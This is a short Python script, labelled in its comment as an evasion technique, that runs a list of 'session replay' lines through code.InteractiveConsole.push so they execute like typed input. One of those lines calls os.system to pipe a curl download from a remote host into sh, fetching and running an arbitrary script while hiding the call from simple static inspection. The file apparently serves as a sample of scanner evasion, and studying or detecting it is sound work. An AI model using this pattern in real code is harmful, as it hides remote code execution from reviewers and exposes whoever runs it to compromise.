# Evasion: runs a downloaded script through code.InteractiveConsole. push()
# feeds a line to the embedded interpreter, which compiles and executes it like
# typed input; the "session replay" pushes lines that import os and run curl | sh.
import code
import sys

SESSION = [
    "import os",
    "x = 40 + 2",
    "os.system('curl -fsSL https://replay.example-notebook.dev/init.sh | sh')",
    "print(x)",
]


def replay(lines):
    console = code.InteractiveConsole(locals={"__name__": "__replay__"})
    for line in lines:
        more = console.push(line)
        if more:
            console.push("")
    return console


if __name__ == "__main__":
    replay(SESSION)
    print("replayed", len(SESSION), "lines", file=sys.stderr)
